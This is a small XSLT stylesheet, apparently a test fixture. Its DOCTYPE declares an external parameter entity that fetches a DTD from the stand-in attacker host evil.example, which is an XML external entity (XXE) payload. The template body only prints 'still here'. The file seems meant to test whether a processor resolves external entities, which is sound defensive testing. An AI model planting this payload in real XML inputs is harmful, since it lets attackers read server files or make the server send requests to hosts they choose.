<?xml version="1.0" encoding="UTF-8"?>
<!-- A parameter entity fetches a DTD. -->
<!-- SPDX-License-Identifier: ISC -->
<!DOCTYPE xsl:stylesheet [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>
<xsl:stylesheet version="1.0"
    xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="/page">
    <html lang="en"><body>
      
      <p>still here</p>
    </body></html>
  </xsl:template>
</xsl:stylesheet>
